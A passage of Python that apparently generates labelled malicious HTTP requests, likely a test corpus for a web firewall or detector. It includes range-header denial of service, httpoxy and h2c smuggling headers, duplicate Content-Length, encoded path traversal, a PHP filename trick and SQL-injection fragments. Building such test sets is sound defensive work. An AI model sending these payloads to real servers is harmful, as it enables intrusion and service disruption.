                  ("/api/v1/products?q=%01%02%03%1b", "control-chars"), ("/api/v1/products?q=%ff%fe%fd", "invalid-utf8"),
                  ("/api/v1/products?q=%c0%80", "overlong-null"), ("/api/v1/%2e%2e%3b/products", "encoded-semicolon")]:
        s.add(C, make("GET", w, std()), "query" if "?" in w else "path", ev)
    # header anomalies
    for name, val, ev in [("Content-Type", "application/x-www-form-urlencoded; charset=utf-7", "utf7-charset"),
                          ("Content-Type", "text/html; charset=ibm037", "ebcdic-charset"),
                          ("Range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8,8-9,9-10,10-11,11-12,12-13,13-14,14-15,15-16,16-17,17-18,18-19,19-20,20-21,21-22,22-23,23-24,24-25,25-26,26-27,27-28,28-29,29-30,30-31,31-32,32-33,33-34,34-35,35-36,36-37,37-38,38-39,39-40,40-41,41-42,42-43,43-44,44-45,45-46,46-47,47-48,48-49,49-50,50-51,51-52,52-53,53-54,54-55,55-56,56-57,57-58,58-59,59-60,60-61,61-62,62-63,63-64,64-65", "range-dos"),
                          ("Range", "bytes=0-,0-,0-,0-,0-,0-", "range-overlap"),
                          ("Accept-Encoding", "gzip" + ",gzip" * 60, "header-repetition"),
                          ("Expect", "100-continue, evil", "bad-expect"),
                          ("Proxy", "http://203.0.113.7:8080", "httpoxy"),
                          ("Connection", "keep-alive, Transfer-Encoding", "hop-by-hop-abuse"),
                          ("X-Forwarded-For", "127.0.0.1\x00evil", "null-in-header"),
                          ("User-Agent", "", "empty-ua"),
                          ("Cookie", "a=" + "A" * 9000, "oversized-cookie"),
                          ("Upgrade", "h2c", "h2c-smuggling"),
                          ("If-Modified-Since", "Thu, 01 Jan 1970 00:00:00 GMT' OR 1=1", "malformed-date")]:
        hl = [["Host", "api.example.com"], ["User-Agent", ATTACKER_UA], ["Accept", "*/*"]]
        hl = [x for x in hl if x[0] != name] + [[name, val]]
        if name == "Upgrade":
            hl.append(["Connection", "Upgrade, HTTP2-Settings"]); hl.append(["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"])
        s.add(C, make("GET", "/api/v1/products", header_list=hl), "header:" + name.lower(), ev)
    # body / content-type mismatches
    h = std(); h["Content-Type"] = "application/x-evil"
    s.add(C, make("POST", "/api/v1/orders", h, "a=1"), "header:content-type", "unknown-content-type")
    h = std(); h["Content-Type"] = "multipart/form-data"
    s.add(C, make("POST", "/api/v1/upload", h, "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n"),
          "header:content-type", "multipart-no-boundary")
    h = std(); h["Content-Type"] = "multipart/form-data; boundary=abc; boundary=def"
    s.add(C, make("POST", "/api/v1/upload", h, "--abc\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--abc--\r\n"),
          "header:content-type", "multipart-duplicate-boundary")
    h = std(); h["Content-Type"] = "multipart/form-data; boundary=zzz"
    s.add(C, make("POST", "/api/v1/upload", h, "--zzz\r\nContent-Disposition: form-data; name=\"a\"; filename=\"a.txt\"; filename*=UTF-8''b.php\r\n\r\nx\r\n--zzz--\r\n"),
          "multipart", "multipart-ambiguous-filename")
    h = std(); h["Content-Type"] = "multipart/form-data; boundary=zzz"
    s.add(C, make("POST", "/api/v1/upload", h, "--zzz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nunterminated"),
          "multipart", "multipart-unterminated")
    h = std(); h["Content-Type"] = "application/json"
    s.add(C, make("POST", "/api/v1/orders", h, '{"order": {"id": 1, "items": [1,2,'), "body", "malformed-json")
    h = std(); h["Content-Type"] = "application/xml"
    s.add(C, make("POST", "/api/v1/orders.xml", h, "<order><id>1</id><unclosed></order>"), "body", "malformed-xml")
    h = std(); h["Content-Type"] = "application/x-www-form-urlencoded"
    s.add(C, make("POST", "/api/v1/feedback", h, "a=1&" + "&".join("p%d=x" % i for i in range(400))), "form", "too-many-args")
    s.add(C, make("GET", "/api/v1/products?" + "&".join("a%d=1" % i for i in range(300)), std()), "query", "too-many-args")
    s.add(C, make("GET", "/api/v1/products?q=" + "A" * 5000, std()), "query", "oversized-arg")
    s.add(C, make("GET", "/api/v1/products?q=1&q=2&q=3&q=%27", std()), "query", "hpp")
    s.add(C, make("GET", "/api/v1/../../admin", std()), "path", "unnormalized-path")
    s.add(C, make("GET", "http://evil.example/api/v1/products", std()), "path", "absolute-uri-other-host")
    s.add(C, make("GET", "/api/v1/products\\..\\admin", std()), "path", "backslash-path")
    s.add(C, make("GET", "/api/v1/products?q=\x7f\x01", std()), "query", "raw-control-chars")
    hl = [["Host", "api.example.com"], ["Accept", "*/*"], ["User-Agent", ATTACKER_UA], ["X-Bad Header", "1"]]
    s.add(C, make("GET", "/api/v1/products", header_list=hl), "header:name", "space-in-header-name")
    hl = [["Host", "api.example.com"], ["Accept", "*/*"], ["User-Agent", ATTACKER_UA], ["Content-Length", "0"], ["Content-Length", "0"]]
    s.add(C, make("GET", "/api/v1/products", header_list=hl), "header:content-length", "duplicate-cl")
    h = std(); h["Content-Type"] = "application/json"; h["Content-Type "] = "text/plain"
    s.add(C, make("POST", "/api/v1/orders", h, '{"a":1}'), "header:content-type", "content-type-trailing-space")


CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("traversal", traversal), ("rfi", rfi), ("ssrf", ssrf),
              ("xxe", xxe), ("ssti", ssti), ("jndi", jndi), ("nosqli", nosqli), ("ldapi", ldapi), ("crlf", crlf),
              ("code", code), ("scanner", scanner), ("protocol", protocol)]


def generate(rng):
    s = Sink(rng)
    for _, fn in CATEGORIES:
        fn(s)
    return s.items
